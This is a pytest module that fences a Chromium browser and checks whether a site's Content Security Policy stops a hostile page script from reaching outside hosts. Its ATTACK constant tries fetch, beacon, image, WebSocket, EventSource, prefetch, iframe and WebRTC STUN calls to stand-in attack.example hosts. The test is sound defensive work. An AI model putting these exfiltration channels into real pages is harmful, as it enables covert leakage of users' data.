"""A browser in a network of its own: every packet that it sends anywhere but to the site is written down.

A log of requests shows no lookup of a name and nothing that WebRTC sends; the wire shows both.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser

from tests.support.browser import ONE_PASS, browser_path, chromium_at, citizen_of
from tests.support.fence import Fence, Packet, fenced
from tests.support.playing import PlayedCity
from tests.support.whole_story import tell

pytestmark = [pytest.mark.browser, pytest.mark.egress]

# What Chromium asks its makers for itself, apart from any page: sent where nobody is, or not done at all.
# Its shell does none of it.
HUSHED = (
    "--gaia-url=http://127.0.0.1:9",
    "--component-updater=url-source=http://127.0.0.1:9/",
    "--disable-component-extensions-with-background-pages",
    "--disable-default-apps",
    "--disable-extensions",
    "--disable-features=AutofillServerCommunication,OptimizationHints,NetworkTimeServiceQuerying",
)
# An address in a block for documents (RFC 5737), that no name is looked up for.
SERVER = "203.0.113.9"
# What a hostile script of a page tries: each way out has a name of its own.
ATTACK = """
async () => {
  const at = (way) => `${way}.attack.example`;
  const link = (rel) => Object.assign(document.createElement("link"), { rel, href: `http://${at(rel)}/` });
  const tries = [
    () => fetch(`http://${at("fetch")}/`).catch(() => {}),
    () => { new Image().src = `http://${at("image")}/`; },
    () => navigator.sendBeacon(`http://${at("beacon")}/`, "x"),
    () => new WebSocket(`ws://${at("socket")}/`),
    () => new EventSource(`http://${at("events")}/`),
    () => document.head.append(...["dns-prefetch", "preconnect", "prefetch", "stylesheet"].map(link)),
    () => document.body.append(
      Object.assign(document.createElement("iframe"), { src: `http://${at("frame")}/` })
    ),
  ];
  for (const attempt of tries) {
    try { attempt(); } catch { /* the policy forbids it aloud */ }
  }
  const servers = [`stun:${at("stun")}:3478`, "stun:SERVER:3478"].map((urls) => ({ urls }));
  const call = window.attackCall = new RTCPeerConnection({ iceServers: servers });
  call.createDataChannel("x");
  await call.setLocalDescription();
}
""".replace("SERVER", SERVER)
WAYS = ("fetch", "image", "beacon", "socket", "events", "prefetch", "stylesheet", "frame", "stun")
# No header that Chromium knows stops what WebRTC asks of a server: docs/threat-model.md says so.
UNSTOPPED = {"stun.attack.example", SERVER}
# Chromium looks a frame's host up before it reads the policy that forbids the frame; its shell does not.
LOOKED_UP_FIRST = {"frame.attack.example"}
# What Chromium does with a mere hint depends on how it is built.
HINTED = {"dns-prefetch.attack.example", "preconnect.attack.example"}
# How WebRTC asks the neighbours for a name: no server is told, and an attack that is seen brings it along.
NEIGHBOURS = {"224.0.0.22", "224.0.0.251", "ff02::fb"}


@pytest.fixture(scope="module")
def fence(city: PlayedCity, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fence]:
    with fenced(city.url, browser_path(), tmp_path_factory.mktemp("fence")) as put_up:
        yield put_up


@pytest.fixture(scope="module")
def inside(fence: Fence) -> Iterator[Browser]:
    with chromium_at(ONE_PASS, *HUSHED, path=fence.browser) as browser:
        yield browser


def test_a_whole_story_sends_no_packet_but_to_the_site(
    city: PlayedCity, fence: Fence, inside: Browser
) -> None:
    """While it is told (its module says which parts are in it), no name is looked up and nobody is called but
    the site; what was sent came through the fence."""
    start = len(city.front.seen)
    fence.went_out()  # what Chromium sends for itself as it starts
    with citizen_of(city, inside) as citizen:
        tell(citizen)
        assert citizen.said == []
    assert fence.went_out() == []
    assert {"/consent/events", "/consent/erasures"} <= {
        request.path for request in city.front.since(start) if request.method == "POST"
    }


@pytest.mark.parametrize(
    ("policy", "reached", "perhaps"),
    [
        (False, {f"{way}.attack.example" for way in WAYS} | UNSTOPPED, HINTED),
        (True, UNSTOPPED, LOOKED_UP_FIRST),
    ],
    ids=["no policy", "the policy that is shipped"],
)
def test_an_attack_is_heard_on_the_wire(
    city: PlayedCity, fence: Fence, inside: Browser, *, policy: bool, reached: set[str], perhaps: set[str]
) -> None:
    """Without a policy each way out is heard, so silence means something; the pages' own stops all of them
    that no lookup of a name comes before."""
    heard: list[Packet] = []

    def all_of_it() -> bool:
        heard.extend(fence.went_out())
        return {packet.about for packet in heard} >= reached

    with citizen_of(city, inside, bypass_csp=not policy) as citizen:
        citizen.open("/robots.txt")
        citizen.open("/parking/zones")
        citizen.page.evaluate(ATTACK)
        citizen.until(all_of_it, "the attacks on the wire")
    all_of_it()
    assert {packet.about for packet in heard} - NEIGHBOURS - perhaps == reached
